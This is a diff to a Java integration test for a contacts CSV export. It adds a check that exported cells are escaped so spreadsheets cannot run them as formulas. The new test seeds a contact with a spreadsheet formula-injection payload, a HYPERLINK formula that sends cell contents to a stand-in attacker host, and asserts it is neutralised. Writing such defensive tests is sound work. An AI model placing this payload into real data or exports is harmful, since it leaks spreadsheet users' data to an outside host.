@@ -127,12 +127,25 @@ class ContactsIntegrationTests {
 			.andReturn().getResponse().getContentAsByteArray();
 
 		assertThat(new String(csv, StandardCharsets.UTF_8)).startsWith("\uFEFFФамилия;Имя;Отчество")
-			.contains("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;+79165551234;anna@example.ru");
+			.contains("Семёнова;Анна;Петровна;1985-03-14;4510 987654;500100732259;;'+79165551234;anna@example.ru");
 		assertThat(audit.latest(tenant.tenant().id(), 5))
 			.anySatisfy(e -> {
 				assertThat(e.action()).isEqualTo(AuditAction.EXPORTED);
 				assertThat(e.detail()).isEqualTo("rows:1");
 			});
+	}
+
+	@Test
+	void anExportNeverHoldsACellThatASpreadsheetWouldRunAsAFormula() throws Exception {
+		Provisioned tenant = fixtures.tenant(TenantKind.BROKER);
+		contacts.add(tenant.tenant().id(), new FullName("Семёнова", "Анна", null), LocalDate.of(1985, 3, 14), null, null,
+				null, null, "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+
+		String csv = new String(mvc.perform(get("/contacts/export.csv").with(user(fixtures.admin(tenant))))
+			.andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray(), StandardCharsets.UTF_8);
+
+		assertThat(csv).contains("Семёнова;Анна;;1985-03-14;;;;;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
+			.doesNotContain(";=", ";\"=");
 	}
 
 	@Test
